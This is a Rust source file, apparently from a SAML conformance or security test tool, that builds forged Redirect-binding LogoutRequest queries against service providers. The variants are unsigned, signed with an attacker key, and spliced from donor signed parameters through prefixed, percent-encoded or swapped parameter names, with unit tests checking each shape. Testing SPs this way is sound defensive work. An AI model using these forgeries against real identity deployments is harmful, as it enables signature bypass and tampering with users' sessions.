//! Sign-out messages for a signed-in session, forged: the IdP's LogoutRequest for the victim
//! sent so that only an SP that authenticates it, and reads the query as the binding says,
//! refuses it (the `slo/` checks and the Redirect-binding `bind/redirect/` ones).

use crate::check::{LogoutDonors, LogoutForgery};
use crate::forge::Skip;

/// The raw `name=value` pairs of `query` whose name is one of `names`, in query order.
fn pairs<'q>(query: &'q str, names: &[&str]) -> Vec<&'q str> {
    query
        .split('&')
        .filter(|p| names.contains(&p.split('=').next().unwrap_or_default()))
        .collect()
}

/// The Redirect-binding query carrying `xml` (the IdP's LogoutRequest for the victim), forged
/// as `forgery`, with the attacker's `donors` where it splices signed ones.
pub fn redirect_query(
    forgery: LogoutForgery,
    xml: &str,
    donors: LogoutDonors,
) -> Result<String, Skip> {
    let unsigned = saml_protocol::redirect::unsigned_query("SAMLRequest", xml, None);
    let forged = unsigned.strip_prefix("SAMLRequest=").unwrap_or(&unsigned);
    // The donor's signed parameters, in binding order (RelayState kept: it is signed too).
    let signed = |query, message| {
        let got = pairs(query, &[message, "RelayState", "SigAlg", "Signature"]);
        for name in [message, "SigAlg", "Signature"] {
            if !got.iter().any(|p| p.split('=').next() == Some(name)) {
                return Err(Skip::Failed(format!(
                    "the IdP's signed donor query has no {name}"
                )));
            }
        }
        Ok(got)
    };
    let signed_request = || signed(donors.request, "SAMLRequest");
    let signed_response = || signed(donors.response, "SAMLResponse");
    // The donor's `message` pair renamed with an `x` before it, the forgery under `message`.
    let prefixed = |pairs: Vec<&str>, message: &str| {
        let mut parts = Vec::new();
        for pair in pairs {
            if pair.starts_with(&format!("{message}=")) {
                parts.push(format!("x{pair}"));
                parts.push(format!("{message}={forged}"));
            } else {
                parts.push(pair.to_owned());
            }
        }
        parts.join("&")
    };
    let join = |parts: Vec<String>| parts.join("&");
    match forgery {
        LogoutForgery::Unsigned => Ok(unsigned),
        LogoutForgery::UntrustedKey => {
            let key = crate::crypto::attacker_key()?;
            saml_protocol::redirect::signed_query(&unsigned, donors.sig_alg, key)
                .map_err(Skip::Failed)
        }
        LogoutForgery::ResponseNameConfusion => {
            let mut parts = vec![format!("SAMLResponse={forged}")];
            parts.extend(signed_request()?.into_iter().map(str::to_owned));
            Ok(join(parts))
        }
        LogoutForgery::PrefixedParameter => Ok(prefixed(signed_request()?, "SAMLRequest")),
        LogoutForgery::PrefixedResponse => Ok(prefixed(signed_response()?, "SAMLResponse")),
        LogoutForgery::EncodedResponseName => {
            let mut parts = vec![format!("SAML%52esponse={forged}")];
            parts.extend(signed_response()?.into_iter().map(str::to_owned));
            Ok(join(parts))
        }
        LogoutForgery::EncodedName => {
            let mut parts = vec![format!("SAML%52equest={forged}")];
            parts.extend(signed_request()?.into_iter().map(str::to_owned));
            Ok(join(parts))
        }
        LogoutForgery::RequestBesideResponse => {
            let mut parts = vec![format!("SAMLRequest={forged}")];
            parts.extend(signed_response()?.into_iter().map(str::to_owned));
            Ok(join(parts))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const XML: &str = "<samlp:LogoutRequest xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"/>";
    const DONORS: LogoutDonors = LogoutDonors {
        request: "SAMLRequest=C&SigAlg=A&Signature=S",
        response: "SAMLResponse=R&SigAlg=A&Signature=T",
        sig_alg: "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
    };

    fn query(forgery: LogoutForgery) -> String {
        redirect_query(forgery, XML, DONORS).unwrap()
    }

    #[test]
    fn the_unsigned_query_has_no_signature_and_the_other_one_does() {
        let unsigned = query(LogoutForgery::Unsigned);
        assert!(unsigned.starts_with("SAMLRequest=") && !unsigned.contains("Signature"));
        let message = saml_protocol::redirect::read(&unsigned).unwrap();
        use base64::Engine as _;
        let deflated = base64::engine::general_purpose::STANDARD
            .decode(&message.value)
            .unwrap();
        let inflated = saml_protocol::inflate_bounded(&deflated, 1 << 16).unwrap();
        assert_eq!(inflated, XML.as_bytes(), "the IdP's XML, unchanged");
        let signed = query(LogoutForgery::UntrustedKey);
        assert!(signed.starts_with(&unsigned), "{signed}");
        assert!(
            signed.contains("&SigAlg=http%3a%2f%2fwww.w3.org") && signed.contains("&Signature=")
        );
    }

    #[test]
    fn the_spliced_queries_have_the_published_shapes() {
        let forged = query(LogoutForgery::Unsigned);
        let f = forged.trim_start_matches("SAMLRequest=");
        assert_eq!(
            query(LogoutForgery::ResponseNameConfusion),
            format!("SAMLResponse={f}&SAMLRequest=C&SigAlg=A&Signature=S")
        );
        assert_eq!(
            query(LogoutForgery::PrefixedParameter),
            format!("xSAMLRequest=C&SAMLRequest={f}&SigAlg=A&Signature=S")
        );
        assert_eq!(
            query(LogoutForgery::EncodedName),
            format!("SAML%52equest={f}&SAMLRequest=C&SigAlg=A&Signature=S")
        );
        assert_eq!(
            query(LogoutForgery::RequestBesideResponse),
            format!("SAMLRequest={f}&SAMLResponse=R&SigAlg=A&Signature=T")
        );
        assert_eq!(
            query(LogoutForgery::EncodedResponseName),
            format!("SAML%52esponse={f}&SAMLResponse=R&SigAlg=A&Signature=T")
        );
        assert_eq!(
            query(LogoutForgery::PrefixedResponse),
            format!("xSAMLResponse=R&SAMLResponse={f}&SigAlg=A&Signature=T")
        );
    }
}
